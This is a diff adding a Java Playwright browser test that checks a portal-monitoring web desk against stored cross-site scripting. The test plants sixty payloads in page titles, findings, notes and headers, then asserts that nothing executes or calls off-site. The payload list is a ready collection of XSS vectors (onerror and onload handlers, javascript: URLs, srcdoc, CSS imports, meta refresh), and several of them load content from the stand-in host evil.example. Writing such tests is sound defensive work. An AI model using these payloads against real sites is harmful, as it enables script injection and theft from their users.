@@ -1,0 +1,189 @@
+package vn.vonggac.web;
+
+import com.microsoft.playwright.BrowserContext;
+import com.microsoft.playwright.Page;
+import com.microsoft.playwright.options.ColorScheme;
+import java.nio.charset.StandardCharsets;
+import java.time.Instant;
+import java.util.ArrayList;
+import java.util.LinkedHashSet;
+import java.util.List;
+import java.util.Set;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.Test;
+import vn.vonggac.detect.Family;
+import vn.vonggac.detect.Finding;
+import vn.vonggac.detect.Severity;
+import vn.vonggac.detect.Verdict;
+import vn.vonggac.incident.Exhibit;
+import vn.vonggac.incident.Handling;
+import vn.vonggac.incident.Incidents;
+import vn.vonggac.incident.Sighting;
+import vn.vonggac.incident.Silence.Matcher;
+import vn.vonggac.incident.Silences;
+import vn.vonggac.page.Brought;
+import vn.vonggac.page.Copies;
+import vn.vonggac.page.Place;
+import vn.vonggac.portal.Scope;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * Whatever a portal says of itself, in whichever field it can put words into, runs nothing and asks for nothing on the
+ * pages of the desk: sixty attempts, every page that shows them, a real browser that reports what its policy stopped.
+ */
+class StoredScriptBrowserTest {
+
+    /** Each calls {@code pwned} or asks another host, if anything takes it for more than text. */
+    private static final List<String> VECTORS = List.of("<script>pwned()</script>",
+            "<script src=//evil.example/x.js></script>", "<img src=x onerror=pwned()>",
+            "<img src=//evil.example/x.png>", "<svg onload=pwned()>", "<svg><script>pwned()</script></svg>",
+            "<body onload=pwned()>", "<iframe src=javascript:pwned()></iframe>",
+            "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
+            "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>",
+            "<link rel=stylesheet href=//evil.example/x.css>",
+            "<style>@import '//evil.example/x.css'</style>",
+            "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
+            "<form action=//evil.example/><button autofocus onfocus=pwned()>x</button></form>",
+            "<input autofocus onfocus=pwned()>", "<details open ontoggle=pwned()>x</details>",
+            "<video src=x onerror=pwned()></video>", "<audio src=x onerror=pwned()></audio>",
+            "<marquee onstart=pwned()>x</marquee>", "<a href=javascript:pwned()>x</a>",
+            "javascript:pwned()", "<math><mtext></mtext><script>pwned()</script></math>",
+            "<template><script>pwned()</script></template>",
+            "<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>",
+            "<div style=background:url(//evil.example/x)>x</div>",
+            "<div hx-get=//evil.example/x hx-trigger=load>x</div>",
+            "<div data-live=//evil.example/live data-piece=x>x</div>",
+            "{0}${7*7}<%= 7*7 %>&lt;script&gt;pwned()&lt;/script&gt;\u202e\u0007");
+
+    /** As it is, and after everything it could stand in was ended. */
+    private static final List<String> PAYLOADS = Stream.concat(VECTORS.stream(),
+            VECTORS.stream().map(vector -> "\"'></textarea></title></script></style>-->" + vector)).toList();
+
+    private static final int APIECE = 5;
+    private static final Instant AT = Instant.parse("2025-12-24T00:00:00Z");
+
+    private static RunningDesk desk;
+    private static Chromium chromium;
+
+    @BeforeAll
+    static void start() {
+        desk = new RunningDesk();
+        desk.staff();
+        desk.furnish();
+        for (int portal = 1; portal <= PAYLOADS.size() / APIECE; portal++) {
+            plant(portal, PAYLOADS.subList((portal - 1) * APIECE, portal * APIECE));
+        }
+        chromium = new Chromium();
+    }
+
+    @AfterAll
+    static void stop() {
+        chromium.close();
+        desk.close();
+    }
+
+    private static void plant(int portal, List<String> payloads) {
+        String all = String.join(" ", payloads);
+        String page = "https://xa" + portal + ".binhminh.example/tin?" + payloads.getFirst();
+        keep(portal, page, "2025-12-01T00:00:00Z", "<title>Tin tức</title><p>Hội nghị</p>", false);
+        String hash = keep(portal, page, AT.toString(), "<title>" + escaped(all) + "</title><p>"
+                + escaped(all) + "</p><a href='https://kubet.example/?" + escaped(payloads.getLast()) + "'>"
+                + escaped(all) + "</a>" + all, true);
+        List<Finding> findings = new ArrayList<>();
+        for (String payload : payloads) {
+            findings.add(finding("hidden-link", Family.LINK, payload, List.of("1", payload)));
+            findings.add(finding("title-hijack", Family.PLACE, payload, List.of(payload)));
+            findings.add(finding("planted-document", Family.WORDS, payload, List.of(payload, payload)));
+            findings.add(finding("injected-script", Family.SCRIPT, payload, List.of(payload, payload)));
+            findings.add(finding("off-site-redirect", Family.REDIRECT, payload, List.of(payload, payload)));
+        }
+        Incidents incidents = desk.bean(Incidents.class);
+        long id = incidents.observe(new Sighting(Integer.toString(portal), page, AT,
+                new Verdict(Verdict.Level.COMPROMISED, 0.98, findings, List.of()), true,
+                List.of(new Exhibit(page, AT, "search-engine", 200, hash, page + "\nhttps://x/" + all,
+                        "GET / HTTP/1.1\nX-Powered-By: " + all))))
+                .getFirst().incident().id();
+        incidents.observe(new Sighting(Integer.toString(portal), page, AT, new Verdict(
+                Verdict.Level.CLEAN, 0,
+                List.of(finding("tls-trouble", Family.POSTURE, all, List.of(all, all))), List.of()),
+                true));
+        incidents.handle(Scope.EVERYTHING, id,
+                incident -> Handling.note(incident, new Handling.Word("an", AT, all)));
+        desk.bean(Silences.class).add(Scope.EVERYTHING, Matcher.ALL.onPortal("60").quoting(
+                payloads.getFirst()).planting(payloads.getLast()), all, desk.now().plusSeconds(3600), "an");
+    }
+
+    private static Finding finding(String detector, Family family, String payload, List<String> arguments) {
+        return new Finding(detector, family, Severity.HIGH, 0.97, "search-engine",
+                new Place("html > body > " + payload, 1), payload, "detector." + detector, arguments,
+                List.of(payload, "kubet.example"));
+    }
+
+    private static String escaped(String text) {
+        return text.replace("&", "&amp;").replace("<", "&lt;").replace("'", "&#39;");
+    }
+
+    private static String keep(int portal, String page, String at, String html, boolean flagged) {
+        byte[] bytes = html.getBytes(StandardCharsets.UTF_8);
+        Copies copies = desk.bean(Copies.class);
+        return copies.keep(copies.lay(new Brought(portal, page, "search-engine", Instant.parse(at), bytes,
+                "text/html; charset=utf-8", 200, List.of(page), html.hashCode(), flagged,
+                flagged ? "suspicious" : "clean", List.of()))).lastHash();
+    }
+
+    @Test
+    void nothingRunsAndNothingLeaves() {
+        assertThat(PAYLOADS).hasSize(60).doesNotHaveDuplicates();
+        List<String> reports = new ArrayList<>();
+        try (BrowserContext context = chromium.open(new Chromium.Look("vi", ColorScheme.LIGHT, 1280),
+                desk.address())) {
+            context.addInitScript("""
+                    window.stopped = [];
+                    window.pwned = () => window.stopped.push('a script ran');
+                    document.addEventListener('securitypolicyviolation', report =>
+                      window.stopped.push(report.violatedDirective + ' ' + report.blockedURI + ' '
+                        + report.sample));""");
+            Page page = context.newPage();
+            context.onRequest(request -> {
+                if (!request.url().startsWith(desk.address()) && !request.url().startsWith("data:")) {
+                    reports.add("asked for " + request.url());
+                }
+            });
+            page.onDialog(dialog -> {
+                reports.add("a dialog: " + dialog.message());
+                dialog.dismiss();
+            });
+            desk.signIn(page);
+            for (String path : paths()) {
+                page.navigate(path);
+                page.evaluate("document.querySelectorAll('details').forEach(part => part.open = true)");
+                ((List<?>) page.evaluate("window.stopped")).forEach(said -> reports.add(path + " " + said));
+                assertThat(page.url()).startsWith(desk.address());
+                assertThat((int) page.evaluate(
+                        """
+                                Array.from(document.querySelectorAll('a[href], form[action], [src], [hx-get]'))
+                                  .map(e => e.getAttribute('href') || e.getAttribute('action')
+                                    || e.getAttribute('src') || e.getAttribute('hx-get'))
+                                  .filter(address => !address.startsWith('/') && !address.startsWith('#')
+                                    && !address.startsWith('?') && !/^(tel|mailto):[\\w+@. ]*$/.test(address)).length"""))
+                        .as(path).isZero();
+            }
+        }
+        assertThat(reports).isEmpty();
+    }
+
+    private static Set<String> paths() {
+        Set<String> paths = new LinkedHashSet<>(List.of("/", "/incidents", "/incidents?status=quiet",
+                "/silences", "/detectors", "/planned", "/audit", "/search?q=hội nghị", "/portals"));
+        for (int portal = 1; portal <= PAYLOADS.size() / APIECE; portal++) {
+            paths.add("/portals/" + portal);
+            paths.add("/incidents/" + (2 * portal - 1));
+            paths.add("/incidents/" + 2 * portal);
+            paths.add("/incidents/" + (2 * portal - 1) + "/seen/0");
+        }
+        return paths;
+    }
+}
